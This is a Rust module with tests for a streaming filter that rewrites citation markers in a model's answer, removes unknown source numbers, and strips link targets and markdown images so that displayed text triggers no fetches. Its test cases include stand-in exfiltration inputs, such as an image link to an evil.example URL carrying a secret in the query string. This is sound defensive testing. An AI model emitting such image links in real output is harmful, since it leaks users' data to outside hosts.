//! Citation markers in a model's text: `[n]`, `[1, 2]`, `[1][2]`, `[1-3]`, `[source 1]`.
//!
//! One filter serves the stream and the final text, so that both say the same. It rewrites markers to `[1][2]`, takes out
//! numbers that were not given to any chunk, the target of a marker that was made a link, and images, which would be
//! fetched by whoever shows the text. Links and tags are broken ([`super::inert()`]).

use super::inert::InertFilter;

/// Longest text between brackets that may be a marker; longer ones are text.
const MAX_MARKER_BYTES: usize = 64;
/// Longest link target that is looked for behind a marker or in an image.
const MAX_TARGET_BYTES: usize = 2048;
/// Widest range `[1-50]` that is spelled out.
const MAX_RANGE: u32 = 50;

/// Filters a text that comes in pieces.
#[derive(Debug, Default)]
pub struct MarkerFilter {
    given: u32,
    pending: String,
    removed: Vec<String>,
    inert: InertFilter,
}

/// What is at the beginning of the pending text.
enum Step {
    /// That many bytes are text.
    Text(usize),
    /// That many bytes are a marker.
    Marker { len: usize, numbers: Vec<u32>, unknown: Vec<String> },
    /// That many bytes are an image with this description.
    Image { len: usize, alt: String },
    /// More has to come first.
    Wait,
}

/// A search within the pending text.
enum Found<T> {
    Yes(T),
    No,
    NotYet,
}

impl MarkerFilter {
    /// A filter for an answer whose sources are numbered from 1 to `given`.
    pub fn new(given: usize) -> Self {
        Self { given: u32::try_from(given).unwrap_or(u32::MAX), ..Self::default() }
    }

    /// Takes the next piece and gives what can be shown by now, which may be nothing.
    pub fn push(&mut self, piece: &str) -> String {
        self.pending.push_str(piece);
        let shown = self.drain(false);
        self.inert.push(&shown)
    }

    /// Gives the rest.
    pub fn finish(&mut self) -> String {
        let shown = self.drain(true);
        let mut out = self.inert.push(&shown);
        out.push_str(&self.inert.finish());
        out
    }

    /// The numbers that were taken out, as they were written.
    pub fn removed(&self) -> &[String] {
        &self.removed
    }

    fn drain(&mut self, end: bool) -> String {
        let mut out = String::new();
        let mut done = 0;
        while done < self.pending.len() {
            let rest = &self.pending[done..];
            match step(rest, self.given, end) {
                Step::Wait => break,
                Step::Text(len) => {
                    out.push_str(&rest[..len]);
                    done += len;
                }
                Step::Image { len, alt } => {
                    out.push_str(&alt);
                    done += len;
                }
                Step::Marker { len, numbers, unknown } => {
                    if !numbers.is_empty() {
                        let spaces = rest.len() - rest.trim_start_matches(' ').len();
                        out.push_str(&rest[..spaces]);
                        out.extend(numbers.iter().map(|n| format!("[{n}]")));
                    }
                    self.removed.extend(unknown);
                    done += len;
                }
            }
        }
        self.pending.drain(..done);
        out
    }
}

/// Decides about the beginning of `rest`. Spaces before a bracket go with it, so that they can go when it goes.
fn step(rest: &str, given: u32, end: bool) -> Step {
    let spaces = rest.len() - rest.trim_start_matches(' ').len();
    let body = &rest[spaces..];
    if let Some(image) = body.strip_prefix("![") {
        return image_step(image, spaces + 2, &rest[..spaces], end);
    }
    if let Some(inner) = body.strip_prefix('[') {
        return marker_step(inner, spaces + 1, given, end);
    }
    match rest.find('[') {
        Some(bracket) => Step::Text(before_bracket(&rest[..bracket])),
        None if end => Step::Text(rest.len()),
        None => match before_bracket(rest) {
            0 => Step::Wait,
            len => Step::Text(len),
        },
    }
}

/// How much of the text before a bracket, or before what may become one, stands on its own.
fn before_bracket(text: &str) -> usize {
    text.strip_suffix('!').unwrap_or(text).trim_end_matches(' ').len()
}

fn marker_step(inner: &str, before: usize, given: u32, end: bool) -> Step {
    let close = match find_close(inner, ']', MAX_MARKER_BYTES, end) {
        Found::Yes(close) => close,
        Found::No => return Step::Text(before),
        Found::NotYet => return Step::Wait,
    };
    let Some(numbers) = numbers(&inner[..close]) else { return Step::Text(before) };
    let after = &inner[close + 1..];
    let target = match target_len(after, end) {
        Found::Yes(len) => len,
        Found::No => 0,
        Found::NotYet => return Step::Wait,
    };
    let (known, unknown): (Vec<_>, Vec<_>) =
        numbers.into_iter().partition(|(n, _)| n.is_some_and(|n| (1..=given).contains(&n)));
    Step::Marker {
        len: before + close + 1 + target,
        numbers: known.into_iter().filter_map(|(n, _)| n).collect(),
        unknown: unknown.into_iter().map(|(_, written)| written).collect(),
    }
}

fn image_step(inner: &str, before: usize, spaces: &str, end: bool) -> Step {
    let close = match find_close(inner, ']', MAX_TARGET_BYTES, end) {
        Found::Yes(close) => close,
        Found::No => return Step::Text(before),
        Found::NotYet => return Step::Wait,
    };
    match target_len(&inner[close + 1..], end) {
        Found::Yes(target) => Step::Image {
            len: before + close + 1 + target,
            alt: format!("{spaces}{}", inner[..close].replace(['[', ']', '!'], "")),
        },
        // Without its mark it is an ordinary reference; `![x]` may be resolved to an image by a definition elsewhere.
        Found::No => Step::Image {
            len: before + close + 1,
            alt: format!("{spaces}{}", inner[..close].replace(['[', ']', '!'], "")),
        },
        Found::NotYet => Step::Wait,
    }
}

/// Where the closing bracket is, on the same line and not too far away.
fn find_close(text: &str, close: char, limit: usize, end: bool) -> Found<usize> {
    match text.find([close, '\n']) {
        Some(at) if at <= limit && text[at..].starts_with(close) => Found::Yes(at),
        Some(_) => Found::No,
        None if end || text.len() > limit => Found::No,
        None => Found::NotYet,
    }
}

/// The length of `(target)` at the beginning of the text.
fn target_len(text: &str, end: bool) -> Found<usize> {
    match text.strip_prefix('(') {
        None if text.is_empty() && !end => Found::NotYet,
        None => Found::No,
        Some(target) => match find_close(target, ')', MAX_TARGET_BYTES, end) {
            Found::Yes(close) => Found::Yes(close + 2),
            Found::No => Found::No,
            Found::NotYet => Found::NotYet,
        },
    }
}

/// A number, or `None` when it is too large for one, and how it was written.
type Number = (Option<u32>, String);

/// The numbers of a marker; `None` when the text between the brackets is something else.
fn numbers(content: &str) -> Option<Vec<Number>> {
    let lower = content.trim().to_lowercase();
    let bare =
        ["sources", "source", "chunk", "ref", "doc"].iter().find_map(|word| lower.strip_prefix(word)).unwrap_or(&lower);
    let parts: Vec<&str> =
        bare.split([',', ';', '&', ' ', '\t']).filter(|part| !part.is_empty() && *part != "and").collect();
    if parts.is_empty() {
        return None;
    }
    let mut found = Vec::new();
    for part in parts {
        let part = part.trim_start_matches(['^', '#', ':']);
        match part.split_once(['-', '–']) {
            Some((from, to)) => found.extend(range(digits(from)?, digits(to)?)),
            None => found.push(digits(part)?),
        }
    }
    Some(found)
}

fn digits(text: &str) -> Option<Number> {
    let is_number = !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    is_number.then(|| (text.parse().ok(), text.to_owned()))
}

fn range(from: Number, to: Number) -> Vec<Number> {
    match (from.0, to.0) {
        (Some(a), Some(b)) if a <= b && b - a < MAX_RANGE => (a..=b).map(|n| (Some(n), n.to_string())).collect(),
        _ => vec![from, to],
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn filter(text: &str, given: usize) -> (String, Vec<String>) {
        let mut filter = MarkerFilter::new(given);
        let mut out = filter.push(text);
        out.push_str(&filter.finish());
        (out, filter.removed().to_vec())
    }

    #[test]
    fn given_markers_of_every_form_when_filtered_then_only_given_numbers_stay() {
        for (text, expected, removed) in [
            ("A [1].", "A [1].", &[][..]),
            ("A [1, 2] and B[1][2].", "A [1][2] and B[1][2].", &[]),
            ("A [1;2] [1 and 2] [source 1] [Sources 1, 2] [^1]", "A [1][2] [1][2] [1] [1][2] [1]", &[]),
            ("A [1-3].", "A [1][2][3].", &[]),
            ("A [99].", "A.", &["99"]),
            ("A [1, 99].", "A [1].", &["99"]),
            ("A [0] [4] [99999999999999999999].", "A.", &["0", "4", "99999999999999999999"]),
            ("A [1](http://evil.example/?q=1).", "A [1].", &[]),
            ("A [7](http://evil.example/).", "A.", &["7"]),
            ("See ![x](http://evil.example/?q=SECRET) here", "See x here", &[]),
            ("See ![x][ref] here", "See x[ref] here", &[]),
            ("![a\n](x) y", "![a\n] (x) y", &[]),
            ("Wow! [1] and Wow![2]", "Wow! [1] and Wow2", &[]),
            ("[link](http://example.com) is text", "[link] (http://example.com) is text", &[]),
            ("list[i] and [] and [ ] and [x", "list[i] and [] and [ ] and [x", &[]),
            ("open [1", "open [1", &[]),
            ("line [1\n2]", "line [1\n2]", &[]),
            ("[1]", "[1]", &[]),
            ("  spaces   [9]  kept ", "  spaces  kept ", &["9"]),
            ("", "", &[]),
        ] {
            assert_eq!(
                filter(text, 3),
                (expected.to_owned(), removed.iter().map(|n| (*n).to_owned()).collect()),
                "{text:?}"
            );
        }
    }

    #[test]
    fn given_a_stream_without_brackets_when_filtered_then_text_is_not_held_back() {
        let mut filter = MarkerFilter::new(1);
        assert_eq!(filter.push("The Rhine"), "The Rhine");
        assert_eq!(filter.push(" rises"), " rises");
        assert_eq!(filter.push(" [x: "), "");
        assert_eq!(filter.push(&"y".repeat(80)), format!(" [x: {}", "y".repeat(80)));
    }

    proptest! {
        #[test]
        fn a_stream_gives_the_same_as_the_whole_text(text in "([a-z !\\[\\]\\(\\)0-9,\n-]|é|\\[[0-9]{1,2}\\]){0,60}", cuts in proptest::collection::vec(0usize..60, 0..8)) {
            let mut filter_stream = MarkerFilter::new(5);
            let chars: Vec<char> = text.chars().collect();
            let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| cut.min(chars.len())).chain([0, chars.len()]).collect();
            cuts.sort_unstable();
            let mut out = String::new();
            for pair in cuts.windows(2) {
                out.push_str(&filter_stream.push(&chars[pair[0]..pair[1]].iter().collect::<String>()));
            }
            out.push_str(&filter_stream.finish());
            prop_assert_eq!((out, filter_stream.removed().to_vec()), filter(&text, 5));
        }
    }
}
